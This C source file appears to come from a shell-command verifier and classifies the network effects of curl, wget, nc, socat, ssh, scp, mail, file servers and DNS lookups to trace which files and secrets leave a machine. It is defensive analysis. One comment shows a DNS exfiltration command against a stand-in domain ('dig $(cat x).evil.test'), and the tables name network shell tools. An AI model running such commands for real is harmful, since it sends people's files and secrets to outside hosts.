/* SPDX-License-Identifier: Apache-2.0 */
#include "verify/command/effects.h"

#include <ctype.h>
#include <string.h>

#include "base/names.h"
#include "base/str.h"
#include "verify/command/effect.h"
#include "verify/model/argv.h"
#include "verify/model/words.h"
#include "verify/parse/judge.h"

/*
 * What leaves is followed by words, not by the command as a whole: a token in a header of a request is what tokens are
 * for, the same token in its body or its URL is not.
 */

static uint32_t add_network(struct walk *walk, uint32_t index, const struct word *target, uint32_t traits)
{
	uint32_t network = effect_add(walk, index, OP_NETWORK, target, traits);

	if (network == OPERATION_NONE)
		return network;
	/* What came out of the file or the command that stands in the URL leaves with it. */
	for (uint32_t i = 0; i < target->origins.count; i++) {
		const struct operation *origin = operations_get(walk->operations, target->origins.at[i]);
		const struct word *path = origin->kind == OP_READ ? operation_word(origin, 0) : NULL;

		if (!path || path->text[0] != '$')
			operations_add_traits(walk->operations, network, TRAIT_SENDS);
	}
	if (traits & TRAIT_FETCHES)
		operations_add_flow(walk->operations, network, index);
	return network;
}

/* A value that is sent: literally, or what a file has (curl's "@file", "name=@file"). */
static void send_value(struct walk *walk, const struct command *command, uint32_t index, uint32_t network,
		       const struct word *value)
{
	const char *at = value->text[0] == '@' ? value->text : NULL;

	if (!at && strstr(value->text, "=@"))
		at = strstr(value->text, "=@") + 1;
	if (!at && strstr(value->text, "=<"))
		at = strstr(value->text, "=<") + 1;
	/* --data-urlencode NAME@FILE */
	if (!at && value->text[strcspn(value->text, "@=/.:{ ")] == '@')
		at = strchr(value->text, '@');
	operations_add_flows(walk->operations, &value->origins, network);
	operations_add_traits(walk->operations, network, TRAIT_SENDS);
	if (at && at[1] == '-' && (!at[2] || at[2] == ';')) {
		operations_add_flows(walk->operations, &command->input, network);
	} else if (at) {
		struct word path = *value;

		/* curl -F name=@FILE;type=… */
		path.size = (uint32_t)strcspn(at + 1, ";");
		path.text = arena_text_n(walk->operations->arena, at + 1, path.size);
		if (!path.text)
			return;
		operations_add_flow(walk->operations, effect_on(walk, index, OP_READ, &path, 0), network);
	}
}

static void send_file(struct walk *walk, const struct command *command, uint32_t index, uint32_t network,
		      const struct word *path)
{
	operations_add_traits(walk->operations, network, TRAIT_SENDS);
	if (word_is(path, "-"))
		operations_add_flows(walk->operations, &command->input, network);
	else
		operations_add_flow(walk->operations, effect_on(walk, index, OP_READ, path, 0), network);
}

/*
 * A header says who asks, so it is no data that is sent; but what it has in it arrives all the same. curl's -H @FILE
 * reads it.
 */
static void send_header(struct walk *walk, uint32_t index, uint32_t network, const struct word *value)
{
	struct word path = *value;

	operations_add_flows(walk->operations, &value->origins, network);
	if (value->text[0] != '@' || !value->text[1])
		return;
	path.text++;
	path.size--;
	operations_add_flow(walk->operations, effect_on(walk, index, OP_READ, &path, 0), network);
}

/* The key that a request shows to whom it asks. What else is in the request is another matter. */
static bool is_credential(const struct transfer_option *option, const struct word *value)
{
	static const char *const headers[] = { "authorization", "private-token", "x-api-key", "x-auth-token" };
	char name[32];
	size_t size = strcspn(value->text, ":");

	if (str_equal(option->name, "-u") || str_equal(option->name, "--user"))
		return true;
	if (size >= sizeof name)
		return false;
	for (size_t i = 0; i < size; i++)
		name[i] = (char)tolower((unsigned char)value->text[i]);
	name[size] = '\0';
	return names_find(headers, ARRAY_SIZE(headers), name) >= 0;
}

/* The option that a word is, and its value: the rest of the word, or the next one. NULL: none that has a value. */
static const struct transfer_option *option_at(const struct vec *options, const struct command *command, size_t *at,
					       struct word *ret_value)
{
	const struct word *word = &command->words[*at];
	const char *text = word->text;
	bool is_long = strncmp(text, "--", 2) == 0;

	for (size_t letter = 1; text[0] == '-' && text[letter] && (letter == 1 || !is_long); letter++) {
		char name[TABLE_OPTION_MAX + 1] = { '-', text[letter] };
		size_t used = is_long ? strcspn(text, "=") : letter + 1;
		const struct transfer_option *option;

		if (is_long && used >= sizeof name)
			return NULL;
		if (is_long)
			memcpy(name, text, used);
		option = TABLES_FIND(struct transfer_option, options, name);
		if (!option)
			continue;
		*ret_value = *word;
		if (text[used]) {
			used += is_long;
			ret_value->text += used;
			ret_value->size -= (uint32_t)used;
		} else if (*at + 1 < command->count) {
			*ret_value = command->words[++*at];
		}
		return option;
	}
	return NULL;
}

/* The address up to its first unknown part, where the host stands before it: the key is shown to the host. */
static void keep_known(struct walk *walk, struct word *target)
{
	const char *unknown = memchr(target->text, WORD_UNKNOWN, target->size);
	const char *scheme = strstr(target->text, "://");
	const char *host = scheme ? scheme + strlen("://") : target->text;
	const char *path = strchr(host, '/');
	const char *known;

	if (!unknown || !path || path > unknown)
		return;
	known = arena_text_n(walk->operations->arena, target->text, (size_t)(unknown - target->text));
	if (!known)
		return;
	target->text = known;
	target->size = (uint32_t)strlen(known);
	target->flags |= WORD_EXACT;
	/* What stands in the address leaves with the request itself. */
	target->origins = (struct origins){ 0 };
}

/* The asking alone, beside the request with what it sends. */
static uint32_t shown_to(struct walk *walk, uint32_t index, uint32_t network)
{
	const struct operation *request = operations_get(walk->operations, network);
	struct word target;

	if (!request)
		return network;
	target = *operation_word(request, 0);
	keep_known(walk, &target);
	return add_network(walk, index, &target, TRAIT_FETCHES);
}

static bool is_target(const struct word *word)
{
	return word->text[0] != '-' && word->size;
}

/* A file that is called as its URL ends; folder NULL: here. */
static void write_as_called(struct walk *walk, uint32_t index, const struct word *folder, const struct word *target)
{
	const char *slash = strrchr(target->text, '/');
	struct word name = *target;
	struct word_draft draft;

	if (!is_target(target) || !slash || !slash[1] || (folder && !strstr(target->text, "://")))
		return;
	name.size -= (uint32_t)(slash + 1 - name.text);
	name.text = slash + 1;
	if (folder) {
		word_begin(&draft, walk->operations->arena, target->span);
		word_put_word(&draft, folder);
		if (!str_has_suffix(folder->text, "/"))
			word_put(&draft, "/", 1);
		word_put_word(&draft, &name);
		name = word_end(&draft);
	}
	effect_on(walk, index, OP_WRITE, &name, 0);
}

/* curl, wget: each URL is an operation; what is sent goes to all of them, what is written comes from all. */
static void add_transfer(struct walk *walk, const struct command *command, uint32_t index,
			 enum transfer_program program)
{
	uint32_t networks[16], kept_traits = TRAIT_FETCHES;
	const struct vec *options = &walk->judgement->tables->transfers[program];
	bool writes = false, is_folder_set = false;
	struct word folder;
	size_t count = 0;

	for (size_t i = 1; i < command->count; i++) {
		struct word value;
		const struct transfer_option *option = option_at(options, command, &i, &value);

		if (option ? option->use == TRANSFER_TARGET : is_target(&command->words[i])) {
			if (count < ARRAY_SIZE(networks))
				networks[count++] = add_network(walk, index, option ? &value : &command->words[i],
					kept_traits);
		}
	}
	for (size_t i = 1; i < command->count; i++) {
		struct word value;
		const struct transfer_option *option = option_at(options, command, &i, &value);

		if (!option)
			continue;
		for (size_t to = 0; to < count && option->use == TRANSFER_SENT; to++)
			send_value(walk, command, index, networks[to], &value);
		for (size_t to = 0; to < count && option->use == TRANSFER_SENT_FILE; to++)
			send_file(walk, command, index, networks[to], &value);
		for (size_t to = 0; to < count && option->use == TRANSFER_HEADER; to++)
			send_header(walk, index, is_credential(option, &value) ? shown_to(walk, index, networks[to])
									       : networks[to], &value);
		if (option->use == TRANSFER_WRITTEN && !word_is(&value, "-")) {
			effect_on(walk, index, OP_WRITE, &value, 0);
			writes = true;
		} else if (option->use == TRANSFER_FOLDER) {
			folder = value;
			is_folder_set = true;
		}
	}
	/* Without a name the file is called as the URL ends. */
	writes |= program != TRANSFER_WGET && !option_given(command->words, command->count, 'O', "--remote-name");
	for (size_t i = 1; i < command->count && !writes; i++)
		write_as_called(walk, index, is_folder_set ? &folder : NULL, &command->words[i]);
}

static void add_curl(struct walk *walk, const struct command *command, uint32_t index)
{
	add_transfer(walk, command, index, TRANSFER_CURL);
}

static void add_wget(struct walk *walk, const struct command *command, uint32_t index)
{
	add_transfer(walk, command, index, TRANSFER_WGET);
}

/* nc, telnet, socat, openssl s_client: a connection both ways; what comes in is sent. */
static void add_raw(struct walk *walk, const struct command *command, uint32_t index)
{
	bool listens = option_given(command->words, command->count, 'l', "--listen");
	const struct word *host = NULL, *port = NULL;
	struct word_draft draft;
	struct word target;
	uint32_t network;

	for (size_t i = 1; i < command->count; i++) {
		size_t size = option_size(command->words, command->count, i, "p s w q i e c x X --exec --sh-exec");

		if (size)
			i += size - 1;
		else if (!host)
			host = &command->words[i];
		else if (!port)
			port = &command->words[i];
	}
	if (!host && !listens)
		return;
	word_begin(&draft, walk->operations->arena, host ? host->span : command->span);
	if (host)
		word_put_word(&draft, host);
	if (port) {
		word_put(&draft, ":", 1);
		word_put_word(&draft, port);
	}
	target = word_end(&draft);
	network = add_network(walk, index, &target, TRAIT_FETCHES | (listens ? TRAIT_LISTENS : TRAIT_SENDS));
	operations_add_flows(walk->operations, &command->input, network);
}

static bool is_remote_path(const char *text)
{
	const char *colon = strchr(text, ':'), *slash = strchr(text, '/');

	/* ":ftp,host=h:/" is a place that rclone is told in the command. */
	return strstr(text, "://") || (colon && (colon > text || text[1]) && (!slash || colon < slash));
}

/* scp, rsync, rclone, aws s3 cp, gsutil cp: FROM… TO, either of which is on another machine. */
static void add_copy(struct walk *walk, const struct command *command, uint32_t index)
{
	const struct word *words[64], *to;
	size_t count = 0;

	for (size_t i = 1; i < command->count && count < ARRAY_SIZE(words); i++) {
		size_t size = option_size(command->words, command->count, i,
					  "e i P S F J l o c --exclude --include --rsh --exclude-from --filter");

		if (size)
			i += size - 1;
		else if (strpbrk(command->words[i].text, "/:.~") || command->words[i].text[0] == WORD_UNKNOWN ||
			 i + 1 == command->count || str_equal(program_name(command->words, 1), "scp") ||
			 str_equal(program_name(command->words, 1), "rsync"))
			words[count++] = &command->words[i];
	}
	if (count < 2)
		return;
	to = words[count - 1];
	if (is_remote_path(to->text)) {
		uint32_t network = add_network(walk, index, to, TRAIT_SENDS);

		for (size_t i = 0; i + 1 < count; i++)
			send_file(walk, command, index, network, words[i]);
		return;
	}
	for (size_t i = 0; i + 1 < count; i++) {
		if (is_remote_path(words[i]->text))
			add_network(walk, index, words[i], TRAIT_FETCHES);
		else
			effect_on(walk, index, OP_READ, words[i], TRAIT_RECURSIVE);
	}
	effect_on(walk, index, OP_WRITE, to, 0);
	if (option_given(command->words, command->count, 0, "--delete"))
		effect_on(walk, index, OP_REMOVE, to, TRAIT_RECURSIVE);
}

/* ssh HOST …: what comes in on its standard input goes there. */
static void add_ssh(struct walk *walk, const struct command *command, uint32_t index)
{
	for (size_t i = 1; i < command->count; i++) {
		size_t size = option_size(command->words, command->count, i,
			"b B c D E e F I i J L l m O o p Q R S W w");
		uint32_t network;

		if (size) {
			i += size - 1;
			continue;
		}
		network = add_network(walk, index, &command->words[i],
				      TRAIT_FETCHES | (command->input.count ? TRAIT_SENDS : 0));
		operations_add_flows(walk->operations, &command->input, network);
		for (size_t rest = i + 1; rest < command->count; rest++)
			operations_add_flows(walk->operations, &command->words[rest].origins, network);
		return;
	}
}

/* openssl s_client -connect HOST:PORT: what comes in goes there. Its other verbs open no connection. */
static void add_openssl(struct walk *walk, const struct command *command, uint32_t index)
{
	uint32_t network;

	if (command->count < 2 || !word_is(&command->words[1], "s_client"))
		return;
	for (size_t i = 2; i + 1 < command->count; i++) {
		if (!word_is(&command->words[i], "-connect") && !word_is(&command->words[i], "-host"))
			continue;
		network = add_network(walk, index, &command->words[i + 1],
				      TRAIT_FETCHES | (command->input.count ? TRAIT_SENDS : 0));
		operations_add_flows(walk->operations, &command->input, network);
	}
}

/* httpie: [METHOD] URL [NAME=VALUE | NAME@FILE | NAME:=@FILE | HEADER:VALUE]…; what comes in is the body. */
static void add_httpie(struct walk *walk, const struct command *command, uint32_t index)
{
	uint32_t network = OPERATION_NONE;

	for (size_t i = 1; i < command->count; i++) {
		const struct word *word = &command->words[i];
		const char *mark = strpbrk(word->text, "=@:");

		if (word->text[0] == '-')
			continue;
		if (network != OPERATION_NONE && mark) {
			const char *file = strchr(mark, '@');
			struct word path = *word;

			if (*mark == ':' && mark[1] != '=') {
				send_header(walk, index, network, word);
				continue;
			}
			send_value(walk, command, index, network, word);
			if (!file || file == mark + 1)
				continue;
			path.size -= (uint32_t)(file + 1 - path.text);
			path.text = file + 1;
			send_file(walk, command, index, network, &path);
		} else if (strpbrk(word->text, ".:/") || word->text[0] == WORD_UNKNOWN) {
			network = add_network(walk, index, word, TRAIT_FETCHES);
		}
	}
	if (network == OPERATION_NONE || !command->input.count)
		return;
	operations_add_flows(walk->operations, &command->input, network);
	operations_add_traits(walk->operations, network, TRAIT_SENDS);
}

/* A program that gives a folder's files to whoever asks; what it serves is an option's value, an operand or here. */
struct server {
	const char *name;
	const char *first;   /* its verb; NULL: none */
	const char *folder;  /* options with the folder as value: "-d|--directory" */
	const char *marks;   /* without one of these it is no server: "-S"; NULL: it always is */
	bool takes_operand;  /* the folder may stand alone */
};

static const struct server servers[] = {
	{ "busybox", "httpd", "-h", NULL, false },
	{ "caddy", "file-server", "--root|-root", NULL, false },
	{ "darkhttpd", NULL, "", NULL, true },
	{ "http-server", NULL, "", NULL, true },
	{ "httpd", NULL, "-h", NULL, false },
	{ "live-server", NULL, "", NULL, true },
	{ "php", NULL, "-t", "-S", false },
	{ "python", NULL, "-d|--directory", "http.server|SimpleHTTPServer|pyftpdlib|uploadserver", false },
	{ "python3", NULL, "-d|--directory", "http.server|pyftpdlib|uploadserver", false },
	{ "ruby", NULL, "", "-run", false },
	{ "serve", NULL, "", NULL, true },
	{ "twistd", NULL, "--path", "web", false },
	{ "webfsd", NULL, "-r", NULL, false },
};

static bool is_one_of(const char *names, const char *text)
{
	size_t size = strlen(text);

	for (const char *at = names; size && (at = strstr(at, text)); at++) {
		if ((at == names || at[-1] == '|') && (at[size] == '|' || !at[size]))
			return true;
	}
	return false;
}

static void serve(struct walk *walk, const struct command *command, uint32_t index, const struct server *server)
{
	const struct word *folder = NULL;
	bool is_server = !server->marks;
	struct word here = word_of(walk->operations->arena, command->span, "."), address;
	uint32_t network;

	for (size_t i = 1; i < command->count; i++) {
		const struct word *word = &command->words[i];

		is_server |= server->marks && is_one_of(server->marks, word->text);
		if (is_one_of(server->folder, command->words[i - 1].text))
			folder = word;
		else if (server->takes_operand && !folder && word->text[0] != '-' &&
			 strspn(word->text, "0123456789:.") != word->size)
			folder = word;
	}
	if (!is_server)
		return;
	address = word_of(walk->operations->arena, command->span, "0.0.0.0");
	network = add_network(walk, index, &address, TRAIT_LISTENS);
	operations_add_flow(walk->operations, effect_on(walk, index, OP_READ, folder ? folder : &here,
							 TRAIT_RECURSIVE), network);
}

static void add_server(struct walk *walk, const struct command *command, uint32_t index)
{
	const char *name = program_name(command->words, command->count);

	for (size_t i = 0; i < ARRAY_SIZE(servers); i++) {
		if (str_equal(servers[i].name, name) &&
		    (!servers[i].first || (command->count > 1 && word_is(&command->words[1], servers[i].first))))
			serve(walk, command, index, &servers[i]);
	}
}

/* Mail: the text comes in, a file with -a, to an address. */
static void add_mail(struct walk *walk, const struct command *command, uint32_t index)
{
	const struct word *to = command->count > 1 ? &command->words[command->count - 1] : NULL;
	uint32_t network;

	if (!to)
		return;
	network = add_network(walk, index, to, TRAIT_SENDS);
	operations_add_flows(walk->operations, &command->input, network);
	for (size_t i = 1; i + 1 < command->count; i++) {
		if (word_is(&command->words[i], "-a") || word_is(&command->words[i], "-A"))
			send_file(walk, command, index, network, &command->words[i + 1]);
	}
}

/* What a name that is looked up has in it goes to whoever serves the domain: dig $(cat x).evil.test. */
static void add_lookup(struct walk *walk, const struct command *command, uint32_t index)
{
	for (size_t i = 1; i < command->count; i++) {
		if (is_target(&command->words[i]) && command->words[i].text[0] != '+')
			add_network(walk, index, &command->words[i], 0);
	}
}

bool effects_add_network(struct walk *walk, const struct command *command, uint32_t index, enum program_like like)
{
	static void (*const adders[PROGRAM_LIKE_COUNT])(struct walk *walk, const struct command *command,
							uint32_t index) = {
		[LIKE_CONNECTION] = add_raw, [LIKE_COPY] = add_copy, [LIKE_CURL] = add_curl,
		[LIKE_HTTPIE] = add_httpie, [LIKE_LOOKUP] = add_lookup, [LIKE_MAIL] = add_mail,
		[LIKE_OPENSSL] = add_openssl, [LIKE_SERVER] = add_server, [LIKE_SSH] = add_ssh, [LIKE_WGET] = add_wget,
	};
	size_t before = operations_count(walk->operations);

	if (adders[like])
		adders[like](walk, command, index);
	return operations_count(walk->operations) > before;
}
